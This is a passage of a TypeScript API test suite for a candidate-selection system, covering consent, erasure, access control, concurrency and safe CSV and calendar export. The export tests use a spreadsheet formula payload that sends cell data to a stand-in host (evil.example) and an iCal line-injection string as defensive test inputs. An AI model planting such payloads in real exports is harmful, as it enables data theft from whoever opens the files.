  it("refuses to withdraw another candidate's consent, and withdraws one only once", async () => {
    const mine = await addCandidate(await create());
    const other = await addCandidate(mine);
    const theirs = await addCandidate(await create({}, otherOfficer), {}, otherOfficer);
    const consentOf = async (who: Person, candidacyId: number) =>
      (
        (
          await call('post', `/api/candidacies/${candidacyId}/consents`, who, {
            fields: ['name'],
            note: 'Signed form',
          }).expect(201)
        ).body as TSelection
      ).candidacies.find((c) => c.id === candidacyId)!.personal!.candidate.consents[0]!.id;
    const [a, b] = [mine.candidacies[0]!.id, other.candidacies[1]!.id];
    const foreign = await consentOf(otherOfficer, theirs.candidacies[0]!.id);
    const sibling = await consentOf(officer, b);
    const own = await consentOf(officer, a);
    refused(await call('post', `/api/candidacies/${a}/consents/${foreign}/withdraw`, officer, {}), 404);
    refused(await call('post', `/api/candidacies/${a}/consents/${sibling}/withdraw`, officer, {}), 404);
    refused(
      await call(
        'post',
        `/api/candidacies/${theirs.candidacies[0]!.id}/consents/${foreign}/withdraw`,
        officer,
        {},
      ),
      403,
    );
    refused(await call('post', `/api/candidacies/${a}/consents/${own}/withdraw`, member, {}), 403);
    refused(await call('post', `/api/candidacies/${a}/consents/${own}/withdraw`, undefined, {}), 401);
    expect(
      await t.db.prisma.candidateConsent.count({
        where: { id: { in: [foreign, sibling, own] }, withdrawnAt: { not: null } },
      }),
    ).toBe(0);
    await call('post', `/api/candidacies/${a}/consents/${own}/withdraw`, officer, {}).expect(200);
    await call('post', `/api/candidacies/${a}/consents/${own}/withdraw`, officer, {}).expect(200);
    expect(await auditCount('candidate-consent', own)).toBe(2);
  });

  it('gives export and erasure to admins only, the same answer whether or not the candidate exists', async () => {
    const s = await addCandidate(await create(), {
      candidate: { name: `Rights ${stamp}`, occupation: 'Rights-secret' },
    });
    const id = s.candidacies[0]!.personal!.candidate.id;
    for (const action of ['export', 'erase']) {
      for (const [who, status] of [
        [member, 403],
        [officer, 403],
        [staff, 403],
        [undefined, 401],
      ] as const) {
        for (const target of [id, MISSING]) {
          const res = await call('post', `/api/candidates/${target}/${action}`, who, {
            reason: 'Because I can',
          });
          refused(res, status);
          expect(res.text).not.toContain('Rights');
        }
      }
      for (const body of [
        {},
        { reason: '' },
        { reason: 'ab' },
        { reason: 'a\u0000b c' },
        { reason: 'Fine', extra: 1 },
      ]) {
        refused(await call('post', `/api/candidates/${id}/${action}`, admin, body), 400);
      }
      refused(
        await call('post', `/api/candidates/${MISSING}/${action}`, admin, { reason: 'Subject access' }),
        404,
      );
    }
    expect(
      await t.db.prisma.personalDataExport.count({ where: { filters: { equals: { candidateId: id } } } }),
    ).toBe(0);
    expect((await t.db.prisma.candidate.findUniqueOrThrow({ where: { id } })).erasedAt).toBeNull();
  });

  it('refuses to erase twice, and to edit, consent to or re-add an erased candidate', async () => {
    const s = await addCandidate(await create(), {
      localConnection: 'Erase-secret-connection',
      candidate: { name: `Erased ${stamp}`, occupation: 'Erase-secret-occupation' },
    });
    const c = s.candidacies[0]!;
    const id = c.personal!.candidate.id;
    await call('post', `/api/candidates/${id}/erase`, admin, { reason: 'Asked to be forgotten' }).expect(204);
    refused(await call('post', `/api/candidates/${id}/erase`, admin, { reason: 'Again please' }), 409);
    refused(
      await call('patch', `/api/candidacies/${c.id}/candidate`, officer, { version: 2, name: 'Back again' }),
      422,
    );
    refused(
      await call('post', `/api/candidacies/${c.id}/consents`, officer, {
        fields: ['name'],
        note: 'Signed form',
      }),
      422,
    );
    refused(
      await call('post', `/api/selections/${(await create()).id}/candidacies`, officer, { candidateId: id }),
      422,
    );
    refused(
      await call('post', `/api/selections/${(await create()).id}/candidacies`, admin, { candidateId: id }),
      422,
    );
    expect(await t.db.prisma.candidacy.count({ where: { candidateId: id } })).toBe(1);
    expect(
      await t.db.prisma.auditEntry.count({
        where: { entityType: 'candidate', entityId: String(id), action: 'delete' },
      }),
    ).toBe(1);
    const exported = await call('post', `/api/candidates/${id}/export`, admin, {
      reason: 'Check erasure',
    }).expect(200);
    expect(exported.text).not.toContain('Erase-secret');
  });

  it('refuses to write personal details back onto an erased candidate’s candidacy', async () => {
    const s = await addCandidate(await create(), { candidate: { name: `Erased Again ${stamp}` } });
    const c = s.candidacies[0]!;
    await call('post', `/api/candidates/${c.personal!.candidate.id}/erase`, admin, {
      reason: 'Asked to be forgotten',
    }).expect(204);
    const res = await call('patch', `/api/candidacies/${c.id}`, officer, {
      version: 1,
      localConnection: 'Now lives at 12 Hostile Street',
      yearsLocal: 30,
    });
    refused(res, 422);
    const row = await t.db.prisma.candidacy.findUniqueOrThrow({ where: { id: c.id } });
    expect(row).toMatchObject({ localConnection: '', yearsLocal: null });
  });

  it('refuses two erasures of one candidate at once: one 204, one 409', async () => {
    const s = await addCandidate(await create());
    const id = s.candidacies[0]!.personal!.candidate.id;
    const both = await Promise.all(
      [1, 2].map(() =>
        call('post', `/api/candidates/${id}/erase`, admin, { reason: 'Asked to be forgotten' }),
      ),
    );
    expect(both.map((r) => r.status).sort()).toEqual([204, 409]);
    expect(
      await t.db.prisma.auditEntry.count({
        where: { entityType: 'candidate', entityId: String(id), action: 'delete' },
      }),
    ).toBe(1);
  });
});

describe('the national rules', () => {
  it('refuses malformed rules (400) and non-admins (401/403), leaving the rules as they were', async () => {
    const current = (await call('get', '/api/selection-rules').expect(200)).body.rules as Record<
      string,
      unknown
    >;
    const { suppressBelow: _drop, ...missing } = current;
    const bad: [object, string][] = [
      [{ rules: { ...current, bogus: true } }, 'bogus'],
      [{ rules: missing }, 'suppressBelow'],
      [{ rules: { ...current, suppressBelow: 0 } }, 'suppressBelow'],
      [{ rules: { ...current, suppressBelow: 10 } }, 'suppressBelow'],
      [{ rules: { ...current, longlistSize: '2' } }, 'longlistSize'],
      [{ rules: { ...current, localShare: 100.5 } }, 'localShare'],
      [{ rules: { ...current, membersBallot: 'false' } }, 'membersBallot'],
      [{ rules: null }, 'rules'],
      [{ rules: current, reason: 'x' }, 'reason'],
      [{ ...current }, 'rules'],
    ];
    for (const [body, word] of bad)
      refused(await call('put', '/api/selection-rules', admin, body), 400, word);
    refused(
      await call('put', '/api/selection-rules', officer, { rules: { ...current, longlistSize: 1 } }),
      403,
    );
    refused(
      await call('put', '/api/selection-rules', staff, { rules: { ...current, longlistSize: 1 } }),
      403,
    );
    refused(
      await call('put', '/api/selection-rules', undefined, { rules: { ...current, longlistSize: 1 } }),
      401,
    );
    expect((await call('get', '/api/selection-rules').expect(200)).body.rules).toEqual(current);
    expect(RULE_KEYS.every((k) => k in current)).toBe(true);
  });
});

describe('what leaves the server as files', () => {
  it('neutralises formulas in wards and imposition sources in the CSV', async () => {
    const wards = [
      '=1+1',
      '+SUM(A1:A9)',
      '-2+3',
      '@cmd',
      '\uFF1D1+1',
      'Ward;=1+1',
      'Ward, =HYPERLINK("x")',
      'Quote "ward", here',
    ];
    const made = new Map<number, string>();
    for (const ward of wards) made.set((await create({ electionType: 'council', wardName: ward })).id, ward);
    const source = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const s = await create();
    await call('patch', `/api/selections/${s.id}`, officer, {
      version: 1,
      imposed: true,
      imposedSource: source,
    }).expect(200);
    for (const who of [member, undefined, officer]) {
      const res = await call('get', `/api/selections.csv?clp=${blythId}`, who).expect(200);
      const rows = parse(res.text, { columns: true }) as Record<string, string>[];
      for (const [id, ward] of made) {
        const row = rows.find((r) => r.id === String(id))!;
        expect(row.area, ward).toBe(ward === 'Quote "ward", here' ? ward : `'${ward}`);
      }
      expect(rows.find((r) => r.id === String(s.id))!.imposed_source).toBe(`'${source}`);
    }
  });

  it('keeps semicolons, commas and line breaks in names from breaking the calendar', async () => {
    const ICAL = (await import('ical.js')).default;
    const ward = 'Semi;colon, comma\\slash';
    const s = await create({
      electionType: 'council',
      wardName: ward,
      stages: [{ stage: 'applications_open', plannedOn: '2027-03-01', actualOn: null }],
    });
    // Older or imported rows may hold what the API refuses: a ward that tries to add a property of its own.
    const injected = await create({
      stages: [{ stage: 'longlist', plannedOn: '2027-04-01', actualOn: null }],
    });
    await t.db.prisma.selection.update({
      where: { id: injected.id },
      data: { electionType: 'council', wardName: 'Evil\r\nATTENDEE:mailto:x@evil.example\r\nEND:VEVENT\nX' },
    });
    for (const scope of [`clp=${blythId}`, 'region=E12000001']) {
      const res = await call('get', `/api/selections/calendar.ics?${scope}`).expect(200);
      const unfolded = res.text.replace(/\r\n[ \t]/g, '');
      expect(unfolded).not.toMatch(/^ATTENDEE/m);
      expect(unfolded.match(/^BEGIN:VEVENT/gm)!.length).toBe(unfolded.match(/^END:VEVENT/gm)!.length);
      const events = new ICAL.Component(ICAL.parse(res.text))
        .getAllSubcomponents('vevent')
        .map((v) => new ICAL.Event(v));
      const ours = events.filter((e) => e.uid.startsWith(`selection-${s.id}-`));
      expect(ours.map((e) => e.summary)).toEqual([`${ward}: Applications open (Council) (planned)`]);
      const theirs = events.filter((e) => e.uid.startsWith(`selection-${injected.id}-`));
      expect(theirs).toHaveLength(1);
      expect(theirs[0]!.summary).toContain('ATTENDEE:mailto:x@evil.example');
    }
  });
});

describe('personal fields out of reach', () => {
  it('gives members, staff, other officers, lapsed officers and the public no personal field anywhere', async () => {
    const secrets = {
      name: `Hidden Person ${stamp}`,
      occupation: `Occupation-secret-${stamp}`,
      unionName: `Union-secret-${stamp}`,
      buddyMp: `Buddy-secret-${stamp}`,
    };
    let s = await create({ stage: 'shortlist' });
    s = await addCandidate(s, {
      stage: 'shortlisted',
      livesLocally: true,
      yearsLocal: 17,
      localConnection: `Connection-secret-${stamp}`,
      candidate: { ...secrets, workingClass: true, gender: 'woman' },
    });
    s = await addCandidate(s, {
      stage: 'shortlisted',
      candidate: { name: `Named Person ${stamp}`, occupation: `Consented-name-only-${stamp}` },
    });
    const named = s.candidacies[1]!;
    await call('post', `/api/candidacies/${named.id}/consents`, officer, {
      fields: ['name'],
      note: 'Signed form',
    }).expect(201);
    const hidden = s.candidacies[0]!;
    const never = [
      ...Object.values(secrets),
      `Connection-secret-${stamp}`,
      `Consented-name-only-${stamp}`,
      'Signed form',
    ];
    for (const who of [member, staff, otherOfficer, expiredOfficer, undefined]) {
      const denied = who ? 403 : 401;
      const answers: [Response, number][] = [
        [await call('get', `/api/selections/${s.id}`, who), 200],
        [await call('get', `/api/selections?clp=${blythId}`, who), 200],
        [await call('get', `/api/selections.csv?clp=${blythId}`, who), 200],
        [await call('get', `/api/selections/calendar.ics?clp=${blythId}`, who), 200],
        [await call('get', `/api/selections/${s.id}/history`, who), denied],
        [await call('patch', `/api/selections/${s.id}`, who, { version: 1, stage: 'hustings' }), denied],
        [await call('put', `/api/selections/${s.id}/ballot`, who, { version: 1, rounds: [] }), denied],
        [await call('post', `/api/selections/${s.id}/candidacies`, who, { candidateId: 1 }), denied],
        [
          await call('patch', `/api/candidacies/${hidden.id}`, who, { version: 9, stage: 'selected' }),
          denied,
        ],
        [
          await call('patch', `/api/candidacies/${hidden.id}/candidate`, who, { version: 9, name: 'X' }),
          denied,
        ],
        [
          await call('post', `/api/candidacies/${hidden.id}/consents`, who, {
            fields: ['name'],
            note: 'Forged',
          }),
          denied,
        ],
        [
          await call('post', `/api/candidates/${hidden.personal!.candidate.id}/export`, who, {
            reason: 'Curious',
          }),
          denied,
        ],
        [await call('post', `/api/selections/${s.id}/candidacies`, who, { candidate: { name: 5 } }), 400],
        [await call('get', `/api/selections?clp=${blythId}&stage=x`, who), 400],
      ];
      for (const [i, [res, status]] of answers.entries()) {
        const where = `answer ${i}: ${res.text.slice(0, 200)}`;
        expect(res.status, where).toBe(status);
        for (const secret of never) expect(res.text, where).not.toContain(secret);
      }
      const page = answers[0]![0].body as TSelection;
      expect(page.canEdit).toBe(false);
      expect(page.candidacies.map((c) => [c.label, c.personal, c.published])).toEqual([
        ['Candidate 1', null, {}],
        [`Named Person ${stamp}`, null, { name: `Named Person ${stamp}` }],
      ]);
    }
    const row = await t.db.prisma.candidacy.findUniqueOrThrow({ where: { id: hidden.id } });
    expect(row).toMatchObject({ stage: 'shortlisted', version: 1 });
    expect(await t.db.prisma.candidateConsent.count({ where: { note: 'Forged' } })).toBe(0);
  });
});

describe('at the same time', () => {
  it('lets two officers add applicants while a third request moves the stage, losing nothing', async () => {
    const s = await create();
    const adds = (who: Person, tag: string) =>
      Array.from({ length: 4 }, (_, i) =>
        call('post', `/api/selections/${s.id}/candidacies`, who, { candidate: { name: `${tag} ${i}` } }),
      );
    const results = await Promise.all([
      ...adds(officer, 'First'),
      ...adds(secondOfficer, 'Second'),
      call('patch', `/api/selections/${s.id}`, secondOfficer, { version: 1, stage: 'applications_open' }),
    ]);
    expect(results.map((r) => r.status)).toEqual([201, 201, 201, 201, 201, 201, 201, 201, 200]);
    const after = (await call('get', `/api/selections/${s.id}`, officer).expect(200)).body as TSelection;
    expect(after).toMatchObject({ stage: 'applications_open', version: 2 });
    expect(after.candidacies).toHaveLength(8);
  });

  it('adds the same candidate to a selection once when asked twice at once', async () => {
    const id = (await addCandidate(await create())).candidacies[0]!.personal!.candidate.id;
    const s = await create();
    const both = await Promise.all(
      [officer, secondOfficer].map((who) =>
        call('post', `/api/selections/${s.id}/candidacies`, who, { candidateId: id }),
      ),
    );
    expect(both.map((r) => r.status).sort()).toEqual([201, 409]);
    expect(await t.db.prisma.candidacy.count({ where: { selectionId: s.id } })).toBe(1);
  });

  it('selects one candidate when two are selected at once', async () => {
    const s = await addCandidate(
      await addCandidate(await create({ stage: 'selected' }), { stage: 'shortlisted' }),
      {
        stage: 'shortlisted',
      },
    );
    const [a, b] = s.candidacies;
    const both = await Promise.all([
      call('patch', `/api/candidacies/${a!.id}`, officer, { version: 1, stage: 'selected' }),
      call('patch', `/api/candidacies/${b!.id}`, secondOfficer, { version: 1, stage: 'selected' }),
    ]);
    expect(both.map((r) => r.status).sort()).toEqual([200, 422]);
    const added = await Promise.all(
      [officer, secondOfficer].map((who) =>
        call('post', `/api/selections/${(s as TSelection).id}/candidacies`, who, {
          stage: 'selected',
          candidate: { name: 'Late Selected' },
        }),
      ),
    );
    expect(added.map((r) => r.status)).toEqual([422, 422]);
    expect(await t.db.prisma.candidacy.count({ where: { selectionId: s.id, stage: 'selected' } })).toBe(1);
  });

  it('selects one candidate when two applicants are added as selected at once', async () => {
    const s = await create({ stage: 'selected' });
    const both = await Promise.all(
      [officer, secondOfficer].map((who, i) =>
        call('post', `/api/selections/${s.id}/candidacies`, who, {
          stage: 'selected',
          candidate: { name: `Winner ${i}` },
        }),
      ),
    );
    expect(both.map((r) => r.status).sort()).toEqual([201, 422]);
    expect(await t.db.prisma.candidacy.count({ where: { selectionId: s.id, stage: 'selected' } })).toBe(1);
  });
});
